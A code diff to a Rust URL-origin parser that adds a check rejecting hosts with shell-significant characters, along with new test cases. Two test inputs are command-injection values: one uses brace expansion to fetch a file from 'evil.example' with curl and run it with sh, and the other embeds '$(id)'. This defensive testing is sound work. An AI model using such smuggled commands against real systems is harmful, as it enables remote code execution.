@@ -163,6 +163,11 @@ pub(super) fn parse_exact(text: &str) -> Result<Url, PolicyError> {
     if url.scheme() != "https" {
         return Err(PolicyError::NotHttps(shown()));
     }
+    // The standard allows signs that mean something to a shell.
+    let is_plain = |byte: u8| byte.is_ascii_alphanumeric() || b".-_[]:".contains(&byte);
+    if !url.host_str().is_some_and(|host| host.bytes().all(is_plain)) {
+        return Err(PolicyError::NotAnOrigin(shown()));
+    }
     let exact = url.origin().ascii_serialization();
     if exact == text { Ok(url) } else { Err(PolicyError::NotExact { given: shown(), exact }) }
 }
@@ -214,6 +219,8 @@ mod tests {
             ("https://api.example.com:443", Some("https://api.example.com")),
             ("https:\\\\api.example.com", Some("https://api.example.com")),
             (" https://api.example.com", Some("https://api.example.com")),
+            ("https://a;{curl,-o,x,evil.example};{sh,x}", None),
+            ("https://$(id).example", None),
             ("https://api.example.com/x", None),
             ("https://user@api.example.com", None),
             ("https://api.example.com?x", None),
